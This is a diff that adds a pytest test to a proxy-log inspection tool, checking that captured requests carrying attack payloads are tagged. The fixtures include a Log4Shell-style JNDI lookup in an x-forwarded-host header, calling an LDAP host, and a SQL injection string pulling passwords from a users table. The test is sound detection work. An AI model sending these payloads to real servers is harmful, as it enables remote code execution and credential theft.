@@ -232,3 +232,31 @@ def test_cli_errors(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
 def test_durations_read_well(seconds: float, text: str) -> None:
     """Durations print in their shortest readable form."""
     assert duration(seconds) == text
+
+
+@pytest.mark.parametrize("schema", ["nested", "flat"])
+def test_records_replay_their_captured_headers_and_body_for_inspection(schema: Any) -> None:
+    """A record's captured Referer, Cookie and X-* headers and its captured body (parsed, so
+    read as JSON) reach inspection: replaying proxylog's own log tags what was captured."""
+    record = make_record(
+        timestamp=1_700_000_000.0,
+        method="POST",
+        path="/api/orders",
+        request_headers=(
+            ("referer", "https://shop.example/cart"),
+            ("x-forwarded-host", "${jndi:ldap://198.51.100.9/a}"),
+            ("accept", "*/*"),
+        ),
+        request_body={"note": "1' UNION SELECT password FROM users--"},
+    )
+    facts = facts_from_json(encode_record(record, schema).decode()).facts
+    assert facts.headers == (
+        ("referer", "https://shop.example/cart"),
+        ("x-forwarded-host", "${jndi:ldap://198.51.100.9/a}"),
+    )
+    assert facts.content_type == "application/json" and facts.body is not None
+    spec = parse_rules(
+        Node([{"id": "inspect", "when": {"inspect": True}, "action": "block"}], "rules"), None, None
+    )
+    report = replay([facts_from_json(encode_record(record, schema).decode())], spec)
+    assert {"attack-java", "attack-sqli"} <= set(report.tagged)
